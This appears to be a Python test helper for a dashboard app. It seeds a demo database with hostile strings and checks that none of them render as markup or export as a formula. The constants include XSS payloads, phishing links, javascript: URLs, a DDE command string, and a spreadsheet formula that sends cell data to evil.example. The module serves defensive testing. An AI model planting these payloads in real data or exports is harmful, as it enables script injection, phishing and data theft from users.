"""A demo database whose every data-supplied string is hostile (Markdown links and images, HTML tags, javascript:
URLs, spreadsheet formulas), and checks that find any of it rendered as markup or exported as a formula."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from dashboard.db import database, schema
from dashboard.demo.build import build_demo

LINK = "[Click to re-login](https://evil.example/login)"
IMAGE = "![x](https://evil.example/pixel.png)"
ANCHOR = '<a href="https://evil.example/a">open</a>'
IMG = '<img src="https://evil.example/i.png" onerror="alert(1)">'
SCRIPT = "<script>alert('evil.example')</script>"
JS_LINK = "[js](javascript:alert('evil.example'))"
BARE_URL = "see https://evil.example/bare or www.evil.example"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)"

# (table, column, old value, new value): every field the app shows that comes from the data
RENAMES = [
    ("conversations", "channel", "chat", f"chat {ANCHOR}"),
    ("sla_policies", "channel", "chat", f"chat {ANCHOR}"),
    ("conversations", "channel", "email", f"{FORMULA} {IMAGE}"),
    ("sla_policies", "channel", "email", f"{FORMULA} {IMAGE}"),
    ("conversations", "account", "@urbanmart_help", LINK),
    ("conversations", "account", "@skyway_air", f"{AT_SUM} {SCRIPT}"),
    ("conversations", "priority", "low", f"low {IMG}"),
    ("sla_policies", "priority", "low", f"low {IMG}"),
    ("customers", "segment", "business", f"{LINK} {BARE_URL}"),
    ("customers", "plan", "premium", "=1+1"),
    ("customers", "plan", "basic", IMAGE),
    ("incidents", "incident_id", "INC-105", f"INC-105 {JS_LINK}"),
    ("incidents", "title", "Nationwide network outage", f"Outage {ANCHOR} {IMG}"),
    ("incidents", "title", "Double charge on monthly bills", f"{SCRIPT} {LINK}"),
    ("incidents", "incident_id", "INC-104", COMMAND),
]
HOSTILE_INCIDENT = f"INC-105 {JS_LINK}"
HOSTILE_CONVERSATION = LINK


def build_hostile(path: Path) -> Path:
    """A small demo database, then every data-supplied string replaced by a hostile one (derived tables rebuilt)."""
    build_demo(path, conversations=800, seed=3)
    con = database.connect(path)
    try:
        con.execute("begin")
        for table, column, old, new in RENAMES:
            # Identifiers come from the fixed list above; values are bound.
            con.execute(f'update {table} set "{column}" = $new where "{column}" = $old', {"new": new, "old": old})
        # One conversation (in the latest incident, answered, several messages) gets a hostile id, agent and texts.
        target = con.execute(
            "select conversation_id from conversations where first_response_at is not null "
            "and started_at >= (select started_at from incidents where incident_id = $incident) "
            "order by message_count desc, conversation_id limit 1",
            {"incident": HOSTILE_INCIDENT},
        ).fetchone()[0]
        for table in ("messages", "conversations"):
            con.execute(
                f"update {table} set conversation_id = $new where conversation_id = $old",
                {"new": HOSTILE_CONVERSATION, "old": target},
            )
        con.execute("update conversations set agent_id = $agent where agent_id is not null", {"agent": IMG})
        con.execute("update messages set author_id = $agent where author_type = 'agent'", {"agent": f"a`{IMG}`"})
        con.execute(
            "update messages set text = $text where author_type = 'customer' and conversation_id = $id",
            {"text": f"{LINK} {IMAGE} {ANCHOR} {SCRIPT} {BARE_URL} the app is down, useless", "id": LINK},
        )
        customer = con.execute("select customer_id from conversations where conversation_id = $id", {"id": LINK})
        old_customer = customer.fetchone()[0]
        for table in ("conversations", "customers"):
            con.execute(
                f"update {table} set customer_id = $new where customer_id = $old",
                {"new": f"{COMMAND} {JS_LINK}", "old": old_customer},
            )
        schema.refresh_derived(con)
        con.execute("commit")
    finally:
        con.close()
    return path


# Markdown shown by Streamlit: escaped data keeps no bare "evil.example" (the dot is escaped), and no unescaped
# link, image or tag; code spans are literal and left out.
CODE_SPAN = re.compile(r"(`+)(?!`).*?(?<!`)\1(?!`)", re.S)
UNESCAPED_MARKUP = re.compile(r"(?<!\\)\]\(|(?<!\\)<\s*[a-z/!]|(?<!\\)evil\.example|(?<!\\)javascript:", re.I)
# Plotly renders a subset of HTML in text: no data-supplied tag may survive.
PLOTLY_TAG = re.compile(r"<\s*/?\s*(a|img|script|span|iframe|svg|style)\b", re.I)
MARKDOWN_FIELDS = {"body", "label", "help", "caption", "delta_description", "name", "placeholder"}
PLAIN_ELEMENTS = {"text", "code", "arrow_data_frame", "dataframe", "selectbox", "multiselect", "json", "exception"}


# GFM autolink literals are matched on the text with its escapes decoded.
AUTOLINK = re.compile(r"https?://|\bwww\.|[\w.+-]@[\w-]", re.I)


def markdown_problems(text: str) -> list[str]:
    """The unescaped markup, and the text a GFM autolink would turn into a link, in a string shown as Markdown."""
    text = CODE_SPAN.sub("", text)
    decoded = re.sub(r"\\(.)", r"\1", text)
    return [m.group(0) for m in UNESCAPED_MARKUP.finditer(text)] + [m.group(0) for m in AUTOLINK.finditer(decoded)]


def plotly_problems(spec: Any) -> list[str]:
    """Every string of a Plotly figure (spec dict) that holds a tag Plotly would render."""
    return [value for value in _strings(spec) if PLOTLY_TAG.search(value)]


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from _strings(item)


def _proto_strings(message: Any) -> Iterator[tuple[str, str]]:
    """(field name, value) of every string field of a protobuf message, recursively."""
    for field, value in message.ListFields():
        repeated = isinstance(value, list | tuple) or type(value).__name__.startswith("Repeated")
        items = list(value) if repeated else [value]
        for item in items:
            if isinstance(item, str):
                yield field.name, item
            elif hasattr(item, "ListFields"):
                yield from _proto_strings(item)


def _nodes(node: Any) -> Iterator[Any]:
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _nodes(child)


def rendered_problems(at: Any) -> list[str]:
    """Everything an AppTest run shows as markup that came from the data: Markdown bodies, labels and tooltips of
    every element, and every Plotly figure's text."""
    problems = []
    for node in _nodes(at._tree):
        proto = getattr(node, "proto", None)
        kind = getattr(node, "type", "")
        if proto is None or not hasattr(proto, "ListFields") or kind in PLAIN_ELEMENTS:
            continue
        if kind == "plotly_chart":
            problems += [f"plotly: {text[:120]}" for text in plotly_problems(json.loads(proto.spec))]
            continue
        for name, text in _proto_strings(proto):
            if name in MARKDOWN_FIELDS:
                problems += [f"{kind}.{name}: {found!r} in {text[:160]!r}" for found in markdown_problems(text)]
    return problems


# In the HTML report: a data tag as HTML, or inside a figure's JSON (where Plotly would render it; plotly.io writes
# "<" as \u003c there).
HTML_TAG = re.compile(r"(<|\\u003c)\s*(a\s+href=\S*evil|img\s+src=\S*evil|script>alert)", re.I)


def html_problems(text: str) -> list[str]:
    """Data-supplied tags that an HTML page (the executive report) would render."""
    return [match.group(0) for match in HTML_TAG.finditer(text)]
